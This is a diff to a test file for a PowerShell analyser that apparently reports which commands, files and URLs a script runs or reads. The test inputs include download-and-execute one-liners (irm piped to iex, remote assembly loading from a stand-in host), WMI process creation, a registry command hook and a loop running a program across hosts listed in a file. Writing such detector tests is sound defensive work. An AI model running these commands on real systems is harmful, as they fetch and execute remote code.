@@ -78,6 +78,7 @@ describe("readPowerShell: programs", () => {
       "$c = New-Object Management.ManagementClass('Win32_Process'); $c.Derive('Win32_Own'); iwmi Win32_Own Create 'calc'",
       ["calc"],
     ],
+    ['foreach ($m in gc C:\\l.txt) { x.exe "\\\\$m\\c" $m }', ["x.exe \\\\$m\\c $m", "reads C:\\l.txt"]],
     ["iwmi Win32_Share Create 'C:\\x'", []],
     [
       "si HKCU:\\Software\\K\\command 'x \"a b\"'",
@@ -118,6 +119,7 @@ describe("readPowerShell: what runs, comes and goes", () => {
     ["[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://h/a.bin'))", ["runs http://h/a.bin"]],
     ["Import-Module .\\x.psm1", ["runs .\\x.psm1"]],
     ["Import-Module ActiveDirectory", []],
+    ['$c = irm http://h/x; iex "$c"', ["runs http://h/x"]],
     ["ii C:\\notes.txt", ["runs C:\\notes.txt"]],
     ["$x = New-Object Xml.XmlDocument; $x.Load('http://h/x'); $x.a.b | iex", ["runs http://h/x"]],
     ["iex (gp 'HKCU:\\Software\\K').Own", ["runs HKCU:\\Software\\K\\Own"]],
